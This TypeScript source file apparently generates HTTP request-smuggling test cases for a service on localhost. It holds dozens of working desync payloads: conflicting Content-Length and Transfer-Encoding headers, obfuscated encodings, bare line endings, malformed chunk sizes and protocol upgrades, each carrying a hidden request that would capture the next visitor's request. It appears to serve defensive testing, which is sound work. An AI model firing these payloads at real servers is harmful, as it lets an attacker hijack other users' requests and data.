/** A request that two servers may read differently, as the bytes of the connection. */
export interface SmugglingShape {
  name: string;
  bytes: string;
}

const call = '/v1/website/job/get-all-jobs';
const post = '/v1/website/web-vitals';
const host = 'Host: localhost';
const chunk = (body: string) => `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
const lines = (...all: string[]) => `${all.join('\r\n')}\r\n\r\n`;

/**
 * All shapes, each of which carries `hidden`: an incomplete request that would take the next
 * visitor's request into itself (RFC 9112, 11.2; the names are those of the research on it).
 */
export function createSmugglingShapes(hidden: string): SmugglingShape[] {
  const chunked = 'Transfer-Encoding: chunked';
  const length = `Content-Length: ${hidden.length}`;
  const withEncoding = (...headers: string[]) =>
    lines(`POST ${post} HTTP/1.1`, host, 'Content-Length: 4', ...headers) + `0\r\n\r\n${hidden}`;
  const inBody = (method: string, ...headers: string[]) =>
    lines(`${method} ${call} HTTP/1.1`, host, ...headers) +
    (headers.includes(chunked) ? chunk(hidden) : hidden);
  const first = (line: string, ...headers: string[]) => lines(line, ...headers) + hidden;
  const shapes: Record<string, string> = {
    'GET with chunks': inBody('GET', chunked),
    'HEAD with chunks': inBody('HEAD', chunked),
    'DELETE with chunks': inBody('DELETE', chunked),
    'OPTIONS with chunks': inBody('OPTIONS', chunked),
    'PUT with chunks': inBody('PUT', chunked),
    'GET with a length': inBody('GET', length),
    'HEAD with a length': inBody('HEAD', length),
    'DELETE with a length': inBody('DELETE', length),
    'GET with chunks and Connection: transfer-encoding': inBody(
      'GET',
      'Connection: transfer-encoding',
      chunked,
    ),
    'GET with Connection: content-length': inBody('GET', length, 'Connection: content-length'),
    'DELETE with Connection: content-length': inBody(
      'DELETE',
      length,
      'Connection: content-length',
    ),
    'POST with Connection: content-length': inBody('POST', length, 'Connection: content-length'),
    'POST with Connection: keep-alive, content-length': inBody(
      'POST',
      length,
      'Connection: keep-alive, Content-Length',
    ),
    'POST with Connection: transfer-encoding': inBody(
      'POST',
      'Connection: transfer-encoding',
      chunked,
    ),
    'CL.TE': withEncoding(chunked),
    'TE.CL':
      lines(`POST ${post} HTTP/1.1`, host, chunked, 'Content-Length: 4') +
      chunk(hidden).replace('0\r\n\r\n', ''),
    'CL.0': lines(`POST ${post} HTTP/1.1`, host, 'Content-Length: 0') + hidden,
    '0.CL': inBody('GET', 'Content-Length : 5'),
    'TE with a space before the colon': withEncoding('Transfer-Encoding : chunked'),
    'TE with a tab after the colon': withEncoding('Transfer-Encoding:\tchunked'),
    'TE with a vertical tab': withEncoding('Transfer-Encoding: \x0bchunked'),
    'TE: xchunked': withEncoding('Transfer-Encoding: xchunked'),
    'TE: identity': withEncoding('Transfer-Encoding: identity'),
    'TE: gzip, chunked': withEncoding('Transfer-Encoding: gzip, chunked'),
    'TE: chunked, identity': withEncoding('Transfer-Encoding: chunked, identity'),
    'TE in quotes': withEncoding('Transfer-Encoding: "chunked"'),
    'TE twice': withEncoding(chunked, 'Transfer-Encoding: x'),
    'TE twice, chunked last': withEncoding('Transfer-Encoding: x', chunked),
    'TE after an underscore': withEncoding('Transfer_Encoding: chunked'),
    'TE in capital letters': withEncoding('TRANSFER-ENCODING: CHUNKED'),
    'obs-fold in TE': withEncoding('Transfer-Encoding:\r\n chunked'),
    'obs-fold before TE': withEncoding('X-A: b\r\n Transfer-Encoding: chunked'),
    'bare LF before TE': withEncoding('X-A: b\nTransfer-Encoding: chunked'),
    'bare CR before TE': withEncoding('X-A: b\rTransfer-Encoding: chunked'),
    'NUL in TE': withEncoding('Transfer-Encoding: chu\0nked'),
    'bare LF everywhere': inBody('POST', chunked).replaceAll('\r\n', '\n'),
    'chunk extension': inBody('POST', chunked).replace(/\r\n(\w+)\r\n/, '\r\n$1;a=b\r\n'),
    'chunk extension with a bare LF':
      lines(`POST ${post} HTTP/1.1`, host, chunked) + `2;\nxx\r\n${chunk(hidden)}`,
    'chunk size in 0x form': lines(`POST ${post} HTTP/1.1`, host, chunked) + `0x0\r\n\r\n${hidden}`,
    'chunk size with a sign': lines(`POST ${post} HTTP/1.1`, host, chunked) + `+0\r\n\r\n${hidden}`,
    'chunk size over 64 bits':
      lines(`POST ${post} HTTP/1.1`, host, chunked) + `10000000000000000\r\n${hidden}`,
    'chunk ended by a bare LF':
      lines(`POST ${post} HTTP/1.1`, host, chunked) + `1\r\nx\n0\r\n\r\n${hidden}`,
    'trailer that names a length':
      lines(`POST ${post} HTTP/1.1`, host, chunked) + `0\r\nContent-Length: 9\r\n\r\n${hidden}`,
    'two lengths': inBody('POST', 'Content-Length: 4', length),
    'two lengths in one line': inBody('POST', `Content-Length: 4, ${hidden.length}`),
    'length with a sign': inBody('POST', `Content-Length: +${hidden.length}`),
    'negative length': inBody('POST', 'Content-Length: -1'),
    'length in 0x form': inBody('POST', 'Content-Length: 0x4'),
    'pipelined after a GET': first(`GET ${call} HTTP/1.1`, host),
    'pipelined after a HEAD': first(`HEAD ${call} HTTP/1.1`, host),
    'upgrade to h2c': first(
      `GET ${call} HTTP/1.1`,
      host,
      'Connection: Upgrade, HTTP2-Settings',
      'Upgrade: h2c',
      'HTTP2-Settings: AAMAAABkAAQAAP__',
    ),
    'upgrade to websocket': first(
      `GET ${call} HTTP/1.1`,
      host,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
    ),
    'upgrade with chunks': inBody('POST', 'Connection: Upgrade', 'Upgrade: websocket', chunked),
    'HTTP/1.0 with chunks': inBody('POST', chunked).replace('HTTP/1.1', 'HTTP/1.0'),
    'HTTP/1.0 GET kept alive': first(`GET ${call} HTTP/1.0`, host, 'Connection: keep-alive'),
    'HTTP/0.9': `GET ${call}\r\n${hidden}`,
    'HTTP/2.0': first(`GET ${call} HTTP/2.0`, host),
    'absolute form': inBody('GET', chunked).replace(call, `http://other.example${call}`),
    'authority form': first('CONNECT localhost:4000 HTTP/1.1', host),
    'asterisk form': inBody('OPTIONS', chunked).replace(call, '*'),
    'two hosts': first(`GET ${call} HTTP/1.1`, host, 'Host: other.example'),
    'line break in the path': first(`GET ${call}?a=%0d%0aContent-Length:%205 HTTP/1.1`, host),
    'expect 100-continue': inBody('GET', 'Expect: 100-continue', chunked),
  };
  return Object.entries(shapes).map(([name, bytes]) => ({ name, bytes }));
}
